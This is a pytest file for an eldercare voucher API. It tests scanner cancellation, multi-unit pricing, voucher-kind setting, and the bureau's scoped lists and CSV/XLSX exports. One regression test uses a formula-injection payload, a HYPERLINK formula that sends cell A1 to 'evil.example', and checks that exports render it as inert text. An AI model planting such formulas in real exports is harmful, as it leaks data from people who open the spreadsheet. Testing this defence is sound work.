"""Issue 10's voucher operations for partner systems: cancelling a check-in from the scanner,
a quantity of units at pricing, the elder's kind set by the bureau or the institution, and
the bureau's lists and exports of vouchers and redemptions.

The fixtures are those of tests/api/test_vouchers_api.py (the elder on 三好街 with this
month's ¥500 voucher, the community station's caregiver; its lunch is ¥15 a meal).
"""

from __future__ import annotations

import sqlalchemy as sa
from openapi_spec_validator import validate

from eldercare.audit import AuditLog
from tests.api import test_vouchers_api as base
from tests.api.test_vouchers_api import error, money, priced, scan_and_check_in  # noqa: F401
from vouchers.issuance.monthly import next_month
from vouchers.models import Redemption

# The voucher API tests' fixtures, used here by name.
market = base.market
world = base.world
take_through = base.take_through
scheme = base.scheme
shop = base.shop
api = base.api
token = base.token
elder = base.elder
scanner = base.scanner

# Every operation of this file's part of issue 10 (items 6, 9, 10, 12), with its methods.
PATHS = {
    "/api/v1/redemptions/{redemption_id}/cancel": ("post",),
    "/api/v1/redemptions/{redemption_id}/price": ("post",),
    "/api/v1/voucher-kinds": ("post",),
    "/api/v1/bureau/vouchers": ("get",),
    "/api/v1/bureau/vouchers/export": ("get",),
    "/api/v1/bureau/redemptions": ("get",),
    "/api/v1/bureau/redemptions/export": ("get",),
}


def test_every_operation_is_documented_with_an_example(client):
    spec = client.get("/api/v1/openapi.json").get_json()
    validate(spec)
    for path, methods in PATHS.items():
        assert path in spec["paths"], path
        for method in methods:
            operation = spec["paths"][path][method]
            assert operation["security"] == [{"bearerAuth": []}], path
            answer = next(c for s, c in operation["responses"].items() if s.startswith("2"))
            content = answer["content"]
            assert any("example" in c for c in content.values()), (path, method)
            body = operation.get("requestBody")
            if body is not None:
                assert "example" in body["content"]["application/json"], (path, method)


def _audits(db_session, action):
    return db_session.scalar(
        sa.select(sa.func.count()).select_from(AuditLog).where(AuditLog.action == action)
    )


# --- item 10: cancel a check-in from the scanner -------------------------------------------


def test_the_scanner_cancels_a_check_in_before_any_money_moved(
    api, shop, elder, scanner, token, db_session
):
    checked_in = priced(api, shop, elder, scanner)  # priced: still no money held
    url = f"/redemptions/{checked_in['id']}/cancel"
    # Another provider's scanner cannot see it, let alone cancel it.
    other = token(shop.market.home_admin, ("providers:write",))
    assert error(api.post(url, other), 404)
    reader = token(shop.caregiver, ("read",))
    assert error(api.post(url, reader), 403)
    cancelled = api.post(url, scanner)
    assert cancelled.status_code == 200, cancelled.get_json()
    assert cancelled.get_json()["status"] == "cancelled"
    assert db_session.get(Redemption, checked_in["id"]).status == "cancelled"
    assert _audits(db_session, "redemption.cancel") == 1
    assert money(shop, db_session) == (50_000, 0, 0, 0, True)
    # Cancelling again, or paying it, is refused and changes nothing.
    again = error(api.post(url, scanner), 409)
    assert again["code"] == "redemption_state" and again["message"]
    assert error(api.post(f"/redemptions/{checked_in['id']}/cash", scanner), 409)
    assert _audits(db_session, "redemption.cancel") == 1


def test_a_redeemed_redemption_cannot_be_cancelled(api, shop, elder, scanner, db_session):
    r = priced(api, shop, elder, scanner)
    assert api.post(f"/redemptions/{r['id']}/cash", scanner).status_code == 200
    refused = error(api.post(f"/redemptions/{r['id']}/cancel", scanner), 409)
    assert refused["code"] == "redemption_state"
    assert db_session.get(Redemption, r["id"]).status == "redeemed"
    assert money(shop, db_session) == (49_400, 0, 0, 600, True)


# --- item 12: a quantity of units at pricing -----------------------------------------------


def test_the_scanner_prices_ten_meals(api, shop, elder, scanner, db_session):
    checked_in = scan_and_check_in(api, shop, elder, scanner).get_json()
    url = f"/redemptions/{checked_in['id']}/price"
    too_much = error(api.post(url, scanner, json={"price_fen": 15_001, "quantity": 10}), 422)
    assert too_much["details"].keys() == {"price_fen"}
    assert "10 × ¥15.00" in too_much["details"]["price_fen"]
    for bad in (0, 101, -1):
        refused = error(api.post(url, scanner, json={"price_fen": 1500, "quantity": bad}), 422)
        assert refused["details"].keys() == {"quantity"}, refused
    assert error(api.post(url, scanner, json={"price_fen": 1500, "quantity": "2"}), 422)
    assert db_session.get(Redemption, checked_in["id"]).price_fen is None
    answer = api.post(url, scanner, json={"price_fen": 15_000, "quantity": 10})
    assert answer.status_code == 200, answer.get_json()
    body = answer.get_json()
    assert (body["quantity"], body["price_fen"], body["subsidy_fen"], body["copay_fen"]) == (
        10,
        15_000,
        6000,
        9000,
    )
    paid = api.post(f"/redemptions/{checked_in['id']}/cash", scanner).get_json()
    assert (paid["status"], paid["quantity"]) == ("redeemed", 10)
    assert money(shop, db_session) == (44_000, 0, 0, 6000, True)
    # The elder's side sees the quantity too.
    mine = api.get(f"/vouchers/{shop.voucher.id}", elder).get_json()
    assert mine["redemptions"][0]["quantity"] == 10


# --- item 6: the voucher kind set by the bureau or the institution --------------------------


def _stay(shop):
    from datetime import datetime, time, timedelta

    from eldercare.timeutil import SHANGHAI
    from marketplace import bookings

    m = shop.market
    start = datetime.combine(shop.today + timedelta(days=1), time(10), tzinfo=SHANGHAI)
    booking = bookings.book(m.stay, resident=shop.elder, booked_by=shop.son, slot_start=start)
    bookings.accept(booking, m.institution_admin)
    bookings.complete(booking, m.institution_admin, now=start + timedelta(hours=1))


def test_the_bureau_and_the_institution_set_the_kind_through_the_api(
    api, shop, token, factory, db_session
):
    from vouchers.pool import kinds

    number = shop.elder.id_number
    officer = token(shop.market.officer, ("read", "bureau:write"))
    # Bad input names its field and changes nothing.
    bad = error(api.post("/voucher-kinds", officer, json={"id_number": number}), 422)
    assert "in_institution" in bad["details"]["json"]
    bad = error(
        api.post(
            "/voucher-kinds",
            officer,
            json={"id_number": number, "in_institution": True, "kind": "home_community"},
        ),
        422,
    )
    assert bad["details"].keys() == {"kind"}
    assert error(
        api.post("/voucher-kinds", officer, json={"id_number": "123", "in_institution": True}),
        422,
    )["details"]["json"].keys() == {"id_number"}
    assert _audits(db_session, "voucher_kind.set") == 0
    # District staff of another district cannot reach the elder.
    shenhe = factory.user("officer.sh", roles=["bureau_officer"], district=shop.market.shenhe)
    far = token(shenhe, ("read", "bureau:write"))
    assert error(
        api.post("/voucher-kinds", far, json={"id_number": number, "in_institution": True}), 404
    )
    # A reading token may not write; an elder's token is refused.
    assert error(
        api.post(
            "/voucher-kinds",
            token(shop.market.officer),
            json={"id_number": number, "in_institution": True},
        ),
        403,
    )
    answer = api.post("/voucher-kinds", officer, json={"id_number": number, "in_institution": True})
    assert answer.status_code == 200, answer.get_json()
    body = answer.get_json()
    nxt = next_month(shop.voucher.month)
    assert body == {
        "masked_id_number": shop.elder.masked_id_number,
        "kind": "institutional",
        "in_institution": True,
        "institution_provider_id": None,
        "applies_from": nxt.strftime("%Y-%m"),
    }
    assert _audits(db_session, "voucher_kind.set") == 1
    db_session.refresh(shop.voucher)
    assert shop.voucher.kind == "home_community"  # this month's voucher keeps its kind
    # The institution: only for an elder it houses.
    institution = token(shop.market.institution_admin, ("providers:write",))
    home = {"id_number": number, "in_institution": False, "kind": "home_community"}
    assert error(api.post("/voucher-kinds", institution, json=home), 403)
    _stay(shop)
    db_session.commit()
    took = api.post(
        "/voucher-kinds", institution, json={"id_number": number, "in_institution": True}
    )
    assert took.status_code == 200 and took.get_json()["institution_provider_id"] == (
        shop.market.institution.id
    )
    assert api.post("/voucher-kinds", institution, json=home).status_code == 200
    assert kinds.kind_for(shop.elder.id) == "home_community"
    assert _audits(db_session, "voucher_kind.set") == 3


# --- item 9: the bureau's lists and exports --------------------------------------------------


def _redeemed_ten_meals(api, shop, elder, scanner):
    checked_in = scan_and_check_in(api, shop, elder, scanner).get_json()
    rid = checked_in["id"]
    api.post(f"/redemptions/{rid}/price", scanner, json={"price_fen": 15_000, "quantity": 10})
    assert api.post(f"/redemptions/{rid}/cash", scanner).status_code == 200
    return rid


def test_the_bureau_lists_vouchers_and_redemptions_in_its_scope(
    api, shop, elder, scanner, token, factory, db_session
):
    rid = _redeemed_ten_meals(api, shop, elder, scanner)
    month = shop.voucher.month.strftime("%Y-%m")
    approver = token(shop.approver)
    vouchers = api.get("/bureau/vouchers", approver, query={"month": month}).get_json()
    assert vouchers["total"] == 1
    row = vouchers["items"][0]
    assert (row["id"], row["district"], row["balance_fen"]) == (shop.voucher.id, "210102", 44_000)
    assert row["masked_id_number"] == shop.elder.masked_id_number
    assert shop.elder.id_number not in str(vouchers) and shop.elder.name not in str(vouchers)
    redemptions = api.get(
        "/bureau/redemptions",
        approver,
        query={"month": month, "provider": shop.market.station.id, "status": "redeemed"},
    ).get_json()
    assert [(r["id"], r["quantity"], r["subsidy_fen"]) for r in redemptions["items"]] == [
        (rid, 10, 6000)
    ]
    other = api.get(
        "/bureau/redemptions", approver, query={"provider": shop.market.home.id}
    ).get_json()
    assert other["total"] == 0
    # A district officer sees only that district: Shenhe's sees nothing of Heping's, and
    # asking for Heping is a 404.
    shenhe = factory.user("officer.sh", roles=["bureau_officer"], district=shop.market.shenhe)
    mine = token(shenhe)
    assert api.get("/bureau/vouchers", mine).get_json()["total"] == 0
    assert api.get("/bureau/redemptions", mine).get_json()["total"] == 0
    assert error(api.get("/bureau/vouchers", mine, query={"district": "210102"}), 404)
    # Bad filters are 422 naming the field; a provider's token is 403.
    assert (
        "month"
        in error(api.get("/bureau/vouchers", approver, query={"month": "2026-13"}), 422)["details"][
            "query"
        ]
    )
    assert error(api.get("/bureau/vouchers", approver, query={"limit": 0}), 422)
    assert error(api.get("/bureau/redemptions", scanner), 403)
    assert error(api.get("/bureau/vouchers", elder), 403)


def test_a_month_is_exported_as_csv_and_xlsx(api, shop, elder, scanner, token, db_session):
    import csv
    import io

    from openpyxl import load_workbook

    rid = _redeemed_ten_meals(api, shop, elder, scanner)
    month = shop.voucher.month.strftime("%Y-%m")
    approver = token(shop.approver)
    answer = api.get("/bureau/redemptions/export", approver, query={"month": month})
    assert answer.status_code == 200
    assert answer.headers["Content-Type"].startswith("text/csv")
    assert f"redemptions-{month}.csv" in answer.headers["Content-Disposition"]
    text = answer.get_data().decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(text)))
    assert [(r["id"], r["quantity"], r["subsidy_fen"], r["provider_name"]) for r in rows] == [
        (str(rid), "10", "6000", shop.market.station.name)
    ]
    assert shop.elder.id_number not in text
    xlsx = api.get("/bureau/vouchers/export", approver, query={"month": month, "format": "xlsx"})
    assert xlsx.status_code == 200
    sheet = load_workbook(io.BytesIO(xlsx.get_data()), read_only=True).active
    table = [list(r) for r in sheet.iter_rows(values_only=True)]
    assert table[0][:3] == ["id", "month", "district"]
    assert [(r[0], r[1], r[7]) for r in table[1:]] == [(shop.voucher.id, month, 44_000)]
    # A month is required; a bad format is refused.
    assert "month" in error(api.get("/bureau/vouchers/export", approver), 422)["details"]["query"]
    assert error(
        api.get("/bureau/vouchers/export", approver, query={"month": month, "format": "pdf"}), 422
    )


FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


def test_a_provider_named_like_a_formula_is_text_in_the_exports(
    api, shop, elder, scanner, token, db_session
):
    """csv_chunks wrote text cells unchanged and xlsx_chunks let openpyxl store a str
    starting with "=" as a formula: a provider named "=HYPERLINK(…)" ran in Excel. CSV text
    starting with = + - @ TAB or CR gets a leading quote (OWASP); XLSX text is a string
    cell; numbers are left alone."""
    import csv
    import io

    from openpyxl import load_workbook

    _redeemed_ten_meals(api, shop, elder, scanner)
    shop.market.station.name = FORMULA
    db_session.commit()
    month = shop.voucher.month.strftime("%Y-%m")
    approver = token(shop.approver)
    answer = api.get("/bureau/redemptions/export", approver, query={"month": month})
    [row] = list(csv.DictReader(io.StringIO(answer.get_data().decode("utf-8-sig"))))
    assert row["provider_name"] == "'" + FORMULA and row["subsidy_fen"] == "6000"
    xlsx = api.get("/bureau/redemptions/export", approver, query={"month": month, "format": "xlsx"})
    book = load_workbook(io.BytesIO(xlsx.get_data()))  # not read-only: the stored data_type
    cells = [c for row in book.active.iter_rows() for c in row if c.value is not None]
    named = [c for c in cells if c.value == FORMULA]
    assert len(named) == 1 and named[0].data_type == "s"
    assert "f" not in {c.data_type for c in cells}
    assert 6000 in [c.value for c in cells]  # numbers stay numbers


def test_spreadsheet_safe_text():
    from decimal import Decimal

    from vouchers.spreadsheets import csv_text

    for risky in ("=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx"):
        assert csv_text(risky) == "'" + risky
    assert csv_text("张三") == "张三" and csv_text("") == "" and csv_text(None) == ""
    assert csv_text(Decimal("-6.00")) == "-6.00" and csv_text(-6) == "-6"
    assert csv_text(-6.5) == "-6.5"
